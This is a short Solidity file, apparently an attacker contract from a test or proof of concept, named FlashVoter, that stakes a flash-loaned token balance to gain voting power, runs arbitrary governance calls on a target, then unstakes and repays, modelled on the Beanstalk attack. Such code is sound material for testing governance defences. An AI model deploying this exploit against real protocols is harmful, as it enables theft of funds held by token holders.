// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {StakedVotes} from "./StakedVotes.sol";

/// @notice Tries in one transaction what took Beanstalk: stake what was borrowed, then call whatever governance call is given.
contract FlashVoter {
    /// @dev The loan was sent here before the call; it is staked and used at once.
    function attack(IERC20 token, StakedVotes votes, address target, bytes[] calldata calls) external {
        uint256 loan = token.balanceOf(address(this));
        token.approve(address(votes), loan);
        votes.stake(loan);
        for (uint256 i = 0; i < calls.length; ++i) {
            (bool success, bytes memory answer) = target.call(calls[i]);
            if (!success) {
                assembly ("memory-safe") {
                    revert(add(answer, 0x20), mload(answer))
                }
            }
        }
        votes.unstake(loan);
        token.transfer(msg.sender, loan);
    }
}
